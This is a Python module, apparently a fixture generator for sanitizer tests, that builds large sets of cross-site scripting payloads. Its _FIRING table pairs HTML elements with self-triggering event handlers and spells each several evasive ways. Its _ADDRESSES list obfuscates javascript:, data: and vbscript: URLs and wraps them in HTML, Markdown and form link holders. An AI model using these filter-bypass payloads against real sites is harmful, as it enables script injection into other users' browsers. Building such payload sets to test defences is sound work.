"""PURE: abuse that is made by combining: elements with what makes them run, script addresses with what holds them."""

from __future__ import annotations

import base64
from itertools import cycle, islice

FOREIGN = "foreign.invalid"
RUN = "alert(pwned=1)"
SCRIPT = f"<script>{RUN}</script>"

_FIRING = {  # elements, and what makes them run a handler by themselves or by a touch
    "img": f"src=x onerror={RUN}",
    "image": f"src=x onerror={RUN}",
    "svg": f"onload={RUN}",
    "body": f"onpageshow={RUN}",
    "video": f"src=x onerror={RUN}",
    "audio": f"src=x onerror={RUN}",
    "details": f"open ontoggle={RUN}",
    "input": f"autofocus onfocus={RUN}",
    "select": f"autofocus onfocus={RUN}",
    "textarea": f"autofocus onfocusin={RUN}",
    "button": f"autofocus onfocus={RUN}",
    "div": f"tabindex=1 autofocus onfocus={RUN}",
    "p": f"style=animation:spin onanimationstart={RUN}",
    "a": f"href=# autofocus onfocus={RUN}",
    "iframe": f"src=about:blank onload={RUN}",
    "object": f"data=x onerror={RUN}",
    "embed": f"src=/ onload={RUN}",
    "link": f"rel=stylesheet href=x onerror={RUN}",
    "style": f"onload={RUN}",
    "script": f"src=x onerror={RUN}",
    "math": f"tabindex=1 autofocus onfocus={RUN}",
    "chat-message": f"tabindex=1 autofocus onfocus={RUN}",
    "marquee": f"onstart={RUN}",
    "dialog": f"open onbeforetoggle={RUN}",
    "span": f"oncontentvisibilityautostatechange={RUN} style=display:block;content-visibility:auto",
    "time": f"onpointerover={RUN} datetime=now",
}


def _spelt(tag: str, attributes: str) -> tuple[str, ...]:
    quoted = " ".join('="'.join(each.split("=", 1)) + '"' * ("=" in each) for each in attributes.split())
    return (
        f"<{tag} {attributes}>",
        f"<{tag.swapcase()}\n{quoted.swapcase().replace(RUN.swapcase(), RUN)}>held</{tag}>",
        f"<{tag}/{attributes.replace(' ', '/')}//",
        f"&lt;{tag} {attributes}&gt;",
    )


_BASE64 = base64.b64encode(SCRIPT.encode()).decode()
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" \x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x0006A;avascript&#58{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript://{FOREIGN}/%0a{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\uff4aavascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{_BASE64}",
    f"blob:http://{FOREIGN}/{RUN}",
    f"//{FOREIGN}/%2e%2e/{RUN}",
)
_HOLDERS = (
    '<a href="{}">Go there</a>',
    "[Go there]({})",
    "[Go there](<{}>)",
    "![Go there]({})",
    "<{}>",
    "[Go there][1]\n\n[1]: {} 'there'",
    "<form action='{}'><button>Go there</button></form>",
)

HANDLERS = tuple(each for tag, held in _FIRING.items() for each in _spelt(tag, held))
ADDRESSES = tuple(
    holder.format(address)
    for place, address in enumerate(_ADDRESSES)
    for holder in islice(cycle(_HOLDERS), place, place + 4)
)
